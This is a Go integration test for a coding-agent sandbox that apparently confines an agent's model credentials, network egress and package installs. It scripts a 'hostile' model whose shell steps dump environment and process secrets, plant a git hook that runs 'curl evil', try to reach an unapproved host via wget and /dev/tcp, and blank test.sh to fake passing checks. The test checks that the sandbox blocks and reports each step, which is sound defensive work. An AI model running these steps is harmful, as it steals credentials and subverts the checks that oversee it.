package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"github.com/proctor-project/proctor/sandbox/sandboxtest/model"
	"github.com/proctor-project/proctor/sandbox/sandboxtest/need"
	"github.com/proctor-project/proctor/sandbox/sandboxtest/npmregistry"
)

// shippedOver writes the override of the repository, for a policy that is edited
// first.
func (s *stack) shippedOver(edit *strings.Replacer) {
	s.Helper()
	base, err := filepath.Abs("../../compose/policy.yaml")
	if err != nil {
		s.Fatal(err)
	}
	policy, err := os.ReadFile("../../compose/coding-agent.policy.yaml")
	if err != nil {
		s.Fatal(err)
	}
	text := edit.Replace(string(policy))
	if text == string(policy) {
		s.Fatal("the policy is not what the test knows")
	}
	path := filepath.Join(s.dir, "coding-agent.policy.yaml")
	for name, content := range map[string]string{
		path:                                 text,
		filepath.Join(s.dir, "compose.yaml"): s.output(exitOK, "render", "compose", "--policy", base),
	} {
		if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
			s.Fatal(err)
		}
	}
	over := s.output(exitOK, "render", "compose", "--policy", path, "--over", base)
	if err := os.WriteFile(filepath.Join(s.dir, "coding-agent.yaml"), []byte(over), 0o644); err != nil {
		s.Fatal(err)
	}
	s.files = []string{"compose.yaml", "coding-agent.yaml"}
}

// registryInReach: the host's own npm can install.
func registryInReach(t *testing.T) {
	t.Helper()
	out, err := exec.Command("npm", "config", "get", "registry").Output()
	if err == nil {
		var c net.Conn
		host, _, _ := strings.Cut(strings.TrimPrefix(strings.TrimSpace(string(out)), "https://"), "/")
		if c, err = net.DialTimeout("tcp", net.JoinHostPort(host, "443"), 5*time.Second); err == nil {
			_ = c.Close()
		}
	}
	need.That(t, err == nil, "needs a registry")
}

// TestComposeCodingAgent is the tour of docs/compose.md: a real coding agent in the
// stack that is there, by an override, with its model behind the credentials' door,
// fixes a bug; then the same agent with a model that turned hostile.
func TestComposeCodingAgent(t *testing.T) {
	registryInReach(t)
	const canary = "sk-canary-1729-never-inside"
	s := newStack(t)
	s.doors, s.compose = true, []string{currentCompose(t)}
	version, err := exec.Command("npm", "--version").Output()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("../../scripts/coding-agent-image", "@qwen-code/qwen-code@0.24.4", "npm@"+strings.TrimSpace(string(version)))
	cmd.Env = s.env()
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("image: %v: %s", err, out)
	}
	m, host := model.New(canary), s.outside()
	url, roots := tlsService(t, host, m.ServeHTTP)
	a := npmregistry.Of("a", "1.0.0", map[string]any{"dependencies": map[string]string{"b": "^1.0.0"}})
	b, allowed, c := npmregistry.Of("b", "1.0.0", nil), npmregistry.Of("allowed", "1.0.0", nil), npmregistry.Of("c", "1.0.0", nil)
	registry, more := tlsService(t, host, npmregistry.Handler(a, b, c, allowed))
	roots = append(roots, more...)
	listed, wanted := plainService(t, host, "what is listed"), plainService(t, host, "what was asked for")
	s.shippedOver(strings.NewReplacer(
		"egress: {door: open}", fmt.Sprintf("egress: {door: open, allow: [%q]}\npackages: {registry: %q, allow: [allowed]}", listed, registry),
		"preset: openai", `base: "`+url+`", auth: {kind: header, name: Authorization, prefix: "Bearer "}, paths: [/v1/], methods: [POST]`))
	site := filepath.Join(s.dir, "site")
	for name, content := range map[string]string{
		filepath.Join(site, "sum.sh"):     "echo $(($1 - $2))\n",
		filepath.Join(site, "test.sh"):    "test \"$(sh sum.sh 2 3)\" = 5\n",
		filepath.Join(s.dir, "roots.pem"): string(roots),
	} {
		if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s.must("docker compose run --rm --no-deps -T give roots < roots.pem")
	s.must("printf '%s\\n' " + canary + " | docker compose run --rm --no-deps -T give secret model")
	lock := npmregistry.Lock(registry, a, b)
	if err := os.WriteFile(filepath.Join(s.dir, "package-lock.json"), lock, 0o644); err != nil {
		t.Fatal(err)
	}
	if out := s.must("docker compose run --rm --no-deps -T init && docker compose run --rm --no-deps -T trust approve-package --from-lockfile < package-lock.json"); strings.Count(out, "approved\tsha512-") != 2 {
		t.Errorf("approved: %s", out)
	}
	fix := model.Rewrite(filepath.Join(site, "sum.sh"), "echo $(($1 + $2))\n")

	m.Script(append([]model.Call{
		model.Shell("cd /tmp && export npm_config_fetch_retries=0; npm install a@1.0.0 allowed@1.0.0 && node node_modules/b && node node_modules/allowed; npm install c@1.0.0"),
		model.Shell("wget -qO- http://" + listed + "; wget -qO- http://" + wanted + "; proctor-agent request host " + wanted + " --wait 100s && wget -qO- http://" + wanted),
	}, fix...)...)
	answered := make(chan error, 1)
	go func() { answered <- s.answer(wanted) }()
	sealed := s.seal(exitOK)
	if err := <-answered; err != nil {
		t.Error(err)
	}
	for _, want := range []string{"b 1.0.0 runs", "allowed 1.0.0 runs", "c is not approved", "what is listed", wanted + " is not allowed", "what was asked for"} {
		if !strings.Contains(m.Told(), want) {
			t.Errorf("no %q in\n%s", want, m.Told())
		}
	}
	if p := s.sealed(sealed); p.Agent == nil || p.Agent.Exit != 0 || len(p.Checks) != 1 || !p.Checks[0].Passed {
		t.Errorf("agent %+v, checks %+v", p.Agent, p.Checks)
	}
	left, wrong, asked := m.Seen()
	if left > 0 || wrong > 0 || strings.Contains(asked, canary) {
		t.Errorf("%d calls are left, %d without the key: %s", left, wrong, s.must("docker compose logs agent serve"))
	}
	s.noKeyIsNear("check-unit")
	s.nowhere(canary)
	s.must("docker compose run --rm -T apply")
	if got, err := os.ReadFile(filepath.Join(site, "sum.sh")); err != nil || !strings.Contains(string(got), "+") {
		t.Errorf("sum.sh is %q, %v", got, err)
	}

	evil, _ := tlsService(t, host, func(http.ResponseWriter, *http.Request) { t.Error("another host was reached") })
	address := strings.TrimPrefix(evil, "https://")
	m.Script(append([]model.Call{
		model.Shell("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; ls -R /run /keys /control"),
		model.Write(filepath.Join(site, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl evil\n"),
		model.Shell("wget -O- http://" + address + "; : < /dev/tcp/" + strings.Replace(address, ":", "/", 1)),
		model.Shell("echo true > test.sh"),
	}, fix...)...)
	text, code := s.try("run", "--rm", "-T", "seal")
	left, _, asked = m.Seen()
	if code != exitFail {
		t.Fatalf("exit %d, %d calls are left: %s\n%s", code, left, text, s.must("docker compose logs agent"))
	}
	s.sealed(text)
	if left > 0 || strings.Contains(asked, canary) {
		t.Errorf("%d calls are left, or the key is inside:\n%s", left, m.Told())
	}
	for _, want := range []string{"finding: git-hook " + site + "/.git/hooks/post-checkout\n", "finding: protected " + site + "/test.sh\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not in: %s", want, text)
		}
	}
	for _, want := range []string{"PROCTOR_SERVICES=", address + " is not allowed", "Network is unreachable"} {
		if !strings.Contains(asked, want) {
			t.Errorf("the hostile script shows nothing: no %q in\n%s", want, m.Told())
		}
	}
	if told := s.must("docker compose logs serve"); !strings.Contains(told, `"what":"`+address) {
		t.Errorf("the operator does not hear of the other host: %s", told)
	}
	s.nowhere(canary)
}

// answer approves the request for a host when there is one.
func (s *stack) answer(host string) error {
	const run = "docker compose run --rm --no-deps -T trust "
	ctx, cancel := context.WithTimeout(s.Context(), 2*patience)
	defer cancel()
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		out, _ := s.shell(run + "requests") // before there is a session, it is refused
		for line := range strings.Lines(out) {
			if f := strings.Split(strings.TrimSpace(line), "\t"); len(f) == 5 && f[1] == "waiting" && f[4] == host {
				_, err := s.shell(run + "approve-request " + f[0] + " --expect " + f[2])
				return err
			}
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return errors.New("nobody asked for " + host)
		}
	}
}

// plainService says a word to who reaches it.
func plainService(t *testing.T, host, word string) string {
	t.Helper()
	l, err := net.Listen("tcp", host+":0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &httptest.Server{Listener: l, Config: &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, word)
	})}}
	srv.Start()
	t.Cleanup(srv.Close)
	return l.Addr().String()
}

// TestComposeOverride: the override of the repository is its policy's; the
// stack and its override are the same as the stack that is rendered whole; and what an override cannot take away is refused.
func TestComposeOverride(t *testing.T) {
	d := newDesk(t)
	abs := func(name string) string {
		path, err := filepath.Abs("../../compose/" + name)
		if err != nil {
			t.Fatal(err)
		}
		return path
	}
	base, policy := abs("policy.yaml"), abs("coding-agent.policy.yaml")
	over := d.output(exitOK, "render", "compose", "--policy", policy, "--over", base)
	if got, err := os.ReadFile(abs("coding-agent.yaml")); err != nil || string(got) != over {
		t.Errorf("compose/coding-agent.yaml is not what proctor render compose --policy compose/coding-agent.policy.yaml --over compose/policy.yaml writes: %v", err)
	}
	whole := filepath.Join(d.dir, "whole.yaml")
	if err := os.WriteFile(whole, []byte(d.output(exitOK, "render", "compose", "--policy", policy)), 0o644); err != nil {
		t.Fatal(err)
	}
	merged, all := composed(t, abs("compose.yaml"), abs("coding-agent.yaml")), composed(t, whole)
	if merged != all {
		t.Errorf("the stack and its override are\n%s\n\nrendered whole it is\n%s", merged, all)
	}
	if composed(t, abs("compose.yaml")) == all {
		t.Error("the override changes nothing")
	}
	cmd := d.proctor("render", "compose", "--policy", base, "--over", policy)
	out, _ := cmd.CombinedOutput()
	if cmd.ProcessState.ExitCode() != exitRefused {
		t.Errorf("an override that takes doors away: %s", out)
	}
	for _, want := range []string{"serve has networks, and", "serve volumes has /keys/doors, and", "agent environment has OPENAI_API_KEY, and", "services has give, and"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("no %q in: %s", want, out)
		}
	}
}

// currentCompose is the one that make compose builds.
func currentCompose(t *testing.T) string {
	t.Helper()
	cache, err := os.UserCacheDir()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(cache, "proctor", "bin", "compose")
	_, err = os.Stat(path)
	need.That(t, err == nil, "no current docker compose: make compose")
	return path
}

// composed is what compose makes of files: lists are sorted whose order means
// nothing.
func composed(t *testing.T, files ...string) string {
	t.Helper()
	args := []string{"-p", "proctortest"}
	for _, file := range files {
		args = append(args, "-f", file)
	}
	cmd := exec.Command(currentCompose(t), append(args, "--profile", "tools", "config")...)
	cmd.Env = append(os.Environ(), "PROCTOR_PRODUCT=/srv/site")
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	var file struct {
		Services          map[string]map[string]any
		Networks, Volumes map[string]any
	}
	if err := yaml.Unmarshal(out, &file); err != nil {
		t.Fatal(err)
	}
	if len(file.Services) < 10 {
		t.Fatalf("%s", out)
	}
	for _, service := range file.Services {
		volumes, _ := service["volumes"].([]any)
		slices.SortFunc(volumes, func(a, b any) int {
			return strings.Compare(fmt.Sprint(a.(map[string]any)["target"]), fmt.Sprint(b.(map[string]any)["target"]))
		})
	}
	text, err := yaml.Marshal(file)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}
